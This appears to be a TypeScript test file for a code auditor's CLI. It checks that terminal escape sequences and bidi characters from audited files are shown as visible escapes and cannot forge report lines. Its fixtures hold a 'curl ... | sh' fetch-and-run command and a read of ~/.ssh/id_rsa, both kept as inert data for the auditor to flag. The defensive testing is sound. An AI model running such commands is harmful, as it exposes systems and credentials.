// Text from audited files and guest code reaches terminals and CI logs: a file must not be able to
// recolour, erase or forge report lines with terminal escape sequences, or hide text with bidi
// and invisible characters. Every text format shows them as visible escapes.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { printable } from '../../cli/formatters/printable.js';
import { airlock, tree } from './cli-helpers.js';

const ESC = '\u001b';
/** Clears the line, moves up and clears that one too: would erase the finding printed before it. */
const ERASE = `${ESC}[2K${ESC}[1A${ESC}[2K`;

function assertNoRawControls(text: string): void {
  // Tab and line feed are the report's own layout; nothing else below U+0020 may be printed raw.
  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, JSON.stringify(text));
}

describe('terminal-safe text output', () => {
  const root = tree({
    // A raw ESC inside a string literal is valid JavaScript; the finding quotes the command.
    'erase.js': `require('child_process').exec("curl http://x.example/a.sh | sh ${ERASE}");\n`,
    // A bidi override in a quoted path.
    'bidi.js': `require('fs').readFileSync("/home/u/.ssh/id_rsa\u202e");\n`,
    'guest.js': `throw new Error('boom\\n${ERASE}airlock: ok (1 ms)');\n`,
  });

  it('printable() escapes controls, bidi and line breaks, and leaves ordinary text alone', () => {
    assert.equal(printable(`a${ESC}[31mb\nc\u202ed\te é ✓`), 'a\\u{001b}[31mb\\u{000a}c\\u{202e}d\te é ✓');
  });

  for (const format of ['stylish', 'github']) {
    it(`audit --format ${format} shows escape sequences from a file as text`, async () => {
      const { code, out } = await airlock(root, ['audit', '--profile', 'audit', '--format', format, 'erase.js', 'bidi.js']);
      assert.equal(code, 1);
      assert.match(out, /suspicious-command/);
      assert.match(out, /fs-sensitive-path/);
      assert.match(out, /\\u\{001b\}\[2K/);
      assert.match(out, /\\u\{202e\}/);
      assertNoRawControls(out);
    });
  }

  it('audit --format json keeps the message as data (JSON escapes it)', async () => {
    const { out } = await airlock(root, ['audit', '--profile', 'audit', '--format', 'json', 'erase.js']);
    assertNoRawControls(out);
    const [entry] = JSON.parse(out) as { messages: { message: string }[] }[];
    assert.ok(entry!.messages.some((m) => m.message.includes(ESC)), 'the JSON message keeps the original text');
  });

  it('run: a guest error message cannot forge the status line', async () => {
    const { code, err } = await airlock(root, ['run', 'guest.js', '--isolation', 'worker']);
    assert.equal(code, 1);
    const lines = err.trimEnd().split('\n');
    assert.equal(lines.length, 1, err);
    assert.match(lines[0]!, /^airlock: error: .*boom\\u\{000a\}\\u\{001b\}\[2K/);
    assertNoRawControls(err);
  });
});
